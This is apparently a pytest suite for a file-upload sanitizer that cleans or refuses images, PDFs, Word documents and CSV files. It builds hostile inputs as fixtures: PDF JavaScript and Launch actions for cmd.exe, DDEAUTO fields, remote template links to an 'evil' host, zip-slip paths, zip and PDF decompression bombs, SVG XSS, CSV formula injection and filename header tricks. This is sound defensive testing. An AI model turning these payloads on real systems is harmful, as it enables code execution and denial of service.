"""What people send as a proof comes out harmless or not at all (A26)."""

from __future__ import annotations

import io
import resource
import struct
import zipfile
import zlib
from contextlib import suppress

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from justaction.texts import reading, uploads
from justaction.texts.tests.making import docx, paragraph
from justaction.texts.uploads import Unfit, clean

CONTENT_TYPES = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
    b'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)


def picture(kind: str, **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 10, 10)).save(out, kind, **more)
    return out.getvalue()


def word(**parts: bytes) -> bytes:
    """A Word file with further parts; `__` in a name stands for a slash."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES)
        package.writestr("word/document.xml", b"<document>Our letter</document>")
        package.writestr(
            "docProps/core.xml", b"<cp:coreProperties>Grace wrote this at home</cp:coreProperties>"
        )
        for name, data in parts.items():
            package.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def pdf() -> bytes:
    """A PDF with a script, an attachment, a launch, and an author."""
    out = io.BytesIO()
    document = pikepdf.new()
    page = document.add_blank_page()
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('hello')"))
    document.Root.OpenAction = document.make_indirect(script)
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("x"), script])
    )
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    page.obj.Annots = document.make_indirect(
        pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=launch, AA=launch
                ),
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9]
                ),
            ]
        )
    )
    spec = pikepdf.AttachedFileSpec(
        document,
        b"MZ attached program",
        filename="",
        description="",
        mime_type="",
        creation_date="",
        mod_date="",
    )
    document.attachments["secret.exe"] = spec
    document.docinfo["/Author"] = "Grace Okoye"
    document.save(out)
    return out.getvalue()


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
def test_a_picture_is_drawn_anew_without_what_hides_in_it(kind: str) -> None:
    exif = Image.Exif()
    exif[0x010E] = "taken at 41.88 N 87.63 W"
    sent = picture(kind, exif=exif) + b"<script>alert(1)</script>PK\x03\x04"
    made = clean("photo.php", sent)
    assert b"41.88" in sent
    assert b"41.88" not in made.content
    assert b"<script>" not in made.content
    with Image.open(io.BytesIO(made.content)) as again:
        assert again.format == kind
        assert again.size == (40, 30)
        assert not again.getexif()
    assert made.name in {"photo.png", "photo.jpg", "photo.webp"}


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_unpacked() -> None:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    bomb = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )
    with pytest.raises(Unfit, match="too large"):
        clean("huge.png", bomb)


def test_a_pdf_loses_its_scripts_its_attachments_and_its_author() -> None:
    sent = pdf()
    made = clean("letter.pdf", sent + b"<html><script>alert(1)</script>")
    assert made.media_type == "application/pdf"
    for trace in (
        b"JavaScript",
        b"app.alert",
        b"Launch",
        b"cmd.exe",
        b"attached program",
        b"Grace Okoye",
        b"<script>",
    ):
        assert trace not in made.content
    with pikepdf.open(io.BytesIO(made.content)) as again:
        assert len(again.pages) == 1
        assert not again.attachments
        assert "/OpenAction" not in again.Root
        assert "/Names" not in again.Root or "/JavaScript" not in again.Root.Names


def test_a_locked_pdf_is_refused() -> None:
    out = io.BytesIO()
    document = pikepdf.new()
    document.add_blank_page()
    document.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    with pytest.raises(Unfit, match="password"):
        clean("locked.pdf", out.getvalue())


def test_a_document_keeps_its_words_and_loses_who_wrote_it() -> None:
    made = clean("letter.docx", word())
    with zipfile.ZipFile(io.BytesIO(made.content)) as package:
        assert package.read("word/document.xml") == b"<document>Our letter</document>"
        assert b"at home" not in package.read("docProps/core.xml")


@pytest.mark.parametrize(
    ("part", "data"),
    [
        ("word__vbaProject.bin", b"macro"),
        ("word__embeddings__oleObject1.bin", b"object"),
        ("word__activeX__activeX1.xml", b"<x/>"),
        ("word__run.js", b"alert(1)"),
        ("..__..__etc__cron.d__x.xml", b"<x/>"),
        ("word__settings.xml", b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'),
        (
            "word___rels__settings.xml.rels",
            b'<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>',
        ),
        (
            "word___rels__settings.xml.rels",
            b"<Relationships><Relationship TargetMode='External' Target='http://evil/x.dotm' "
            b"Type='http://x/attachedTemplate'/></Relationships>",
        ),
        (
            "word___rels__settings.xml.rels",
            b'<Relationships><Relationship Type="http://x/attachedTemplat&#101;" Target="http://evil/x.dotm" '
            b'TargetMode="&#69;xternal"/></Relationships>',
        ),
        (
            "word___rels__document.xml.rels",
            b'<Relationships><Relationship Type="http://x/image" Target="https://evil/pixel.png" '
            b'TargetMode="External"/></Relationships>',
        ),
        (
            "word___rels__document.xml.rels",
            b'<Relationships><Relationship Type="http://x/hyperlink" Target="file://evil/share" '
            b'TargetMode="External"/></Relationships>',
        ),
        ("word___rels__document.xml.rels", b"<Relationships><Relationship"),
        (
            "word__footnotes.xml",
            b"<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E&#65;UTO c:/cmd.exe</w:instrText>",
        ),
        ("word__comments.xml", b'<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'),
    ],
)
def test_a_document_that_runs_something_is_refused(part: str, data: bytes) -> None:
    with pytest.raises(Unfit):
        clean("letter.docx", word(**{part: data}))


def test_what_ordinary_documents_hold_is_kept() -> None:
    table = word()
    parts = {
        "word___rels__document.xml.rels": b'<Relationships><Relationship Type="http://x/hyperlink" '
        b'Target="https://example.org/" TargetMode="External"/><Relationship Type="http://x/image" '
        b'Target="media/a.png"/></Relationships>',
        "word__media__a.svg": b"<svg/>",
        "word__printerSettings1.bin": b"x",
        "word__embeddings__a.docx": table,
    }
    made = clean("letter.docx", word(**parts))
    with zipfile.ZipFile(io.BytesIO(made.content)) as package:
        assert "word/media/a.svg" in package.namelist()
        with zipfile.ZipFile(io.BytesIO(package.read("word/embeddings/a.docx"))) as inner:
            assert b"at home" not in inner.read("docProps/core.xml")
    nested = word(**{"word__embeddings__a.docx": word(word__vbaProject=b"macro")})
    with pytest.raises(Unfit, match="macro"):
        clean("letter.docx", nested)
    deep = word(**{"word__embeddings__a.docx": word(**{"word__embeddings__a.docx": table})})
    with pytest.raises(Unfit, match="unpacks to too much"):
        clean("letter.docx", deep)


def test_a_zip_bomb_is_refused() -> None:
    with pytest.raises(Unfit, match="unpacks to too much"):
        clean("bomb.docx", word(word__big=b"\0" * (uploads.MOST_UNPACKED + 1)))


def test_a_document_whose_packing_is_broken_is_refused() -> None:
    """Wherever the bytes of a packed part are bent: nothing but Unfit comes out."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", "<w:document>" + "We begin now. " * 40 + "</w:document>")
    whole = out.getvalue()
    begin = 30 + len("word/document.xml")
    for at in range(begin, begin + 12):
        with pytest.raises(uploads.Unfit):
            uploads.clean("a.docx", whole[:at] + bytes([whole[at] ^ 0xFF]) + whole[at + 1 :])


def test_a_zip_that_lies_about_its_size_is_refused() -> None:
    sent = bytearray(word(word__big=b"\0" * 1_000_000))
    place = sent.rfind(struct.pack("<I", 1_000_000))
    sent[place : place + 4] = struct.pack("<I", 10)
    with pytest.raises(Unfit):
        clean("liar.docx", bytes(sent))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("x.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("x.html", b"<html><script>alert(1)</script></html>"),
        ("x.csv", b"<html><script>alert(1)</script></html>"),
        ("x.png", b"GIF89a not a png"),
        ("x.zip", b"PK\x03\x04rest"),
        ("x.exe", b"MZ\x90\x00"),
        ("x.doc", b"\xd0\xcf\x11\xe0old word"),
        ("x.csv", b"\x00\x01\x02binary"),
        ("x.txt", b"just text"),
        ("empty.pdf", b""),
        ("broken.pdf", b"%PDF-1.7 nothing follows"),
        ("broken.jpg", b"\xff\xd8\xff\xe0 nothing follows"),
    ],
)
def test_other_files_are_refused_in_clear_words(name: str, content: bytes) -> None:
    with pytest.raises(Unfit) as no:
        clean(name, content)
    assert str(no.value).endswith(".")


def test_a_table_loses_its_formulas_and_keeps_its_numbers() -> None:
    made = clean("sums.csv", 'Konto;Summe\n=HYPERLINK("http://x");-12,5\nBürger;3\n'.encode("cp1252"))
    text = made.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert "Bürger,3" in text


def test_a_file_is_never_larger_than_allowed() -> None:
    with pytest.raises(Unfit, match="too large"):
        clean("x.csv", b"a,b\n" * 100, most_bytes=10)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd.csv", "passwd.csv"),
        ("C:\\Users\\grace\\sums.csv", "sums.csv"),
        ('a"; filename="evil.exe.csv', "a filename=evil.exe.csv"),
        ("invoice\u202efdp.csv", "invoicefdp.csv"),
        (".csv", "file.csv"),
        ("x" * 300 + ".csv", "x" * 100 + ".csv"),
    ],
)
def test_a_name_has_no_tricks(name: str, shown: str) -> None:
    assert clean(name, b"a,b\n1,2\n").name == shown


@settings(max_examples=150, deadline=None)
@given(
    st.binary(max_size=600),
    st.sampled_from([b"", b"%PDF-1.4\n", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff"]),
)
def test_whatever_is_sent_is_cleaned_or_refused(rest: bytes, start: bytes) -> None:
    try:
        made = clean("thing.csv", start + rest)
    except Unfit:
        return
    assert made.media_type in uploads.SUFFIXES


def bomb(megabytes: int) -> bytes:
    """A small PDF, one of whose object streams unpacks to as much."""
    pack = zlib.compressobj(1)
    packed = pack.compress(b"5 0 ") + b"".join(pack.compress(b" " * 2**20) for _part in range(megabytes))
    packed += pack.flush()
    parts = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/X 5 0 R>>",
        b"<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>\nstream\n%b\nendstream"
        % (len(packed), packed),
    ]
    out, rows = b"%PDF-1.5\n", struct.pack(">BIB", 0, 0, 0)
    for number, part in enumerate(parts, 1):
        rows += struct.pack(">BIB", 1, len(out), 0)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, part)
    rows += struct.pack(">BIB", 2, 4, 0) + struct.pack(">BIB", 1, len(out), 0)
    table = b"<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>" % len(rows)
    end = b"\nstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (rows, len(out))
    return out + b"6 0 obj\n" + table + end


def test_a_pdf_that_unpacks_to_very_much_gets_little_room() -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with suppress(Unfit):  # nothing is taken, or what did not fit is left out
        assert len(clean("bomb.pdf", bomb(800)).content) < 10_000
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 250_000  # kilobytes
    # of 800 MB that it would unpack to; a child begins with as much as its parent has
    most = max(700_000, before + 100_000)
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < most


def test_a_package_with_a_part_that_has_no_name_is_not_kept() -> None:
    content = docx(paragraph("x")).replace(b"word/styles.xml", b"\0" * len(b"word/styles.xml"))
    with pytest.raises(Unfit, match="could not be read"):
        clean("x.docx", content)
    assert [piece.text for piece in reading.read(content).pieces] == ["x"], "it is only never looked at"
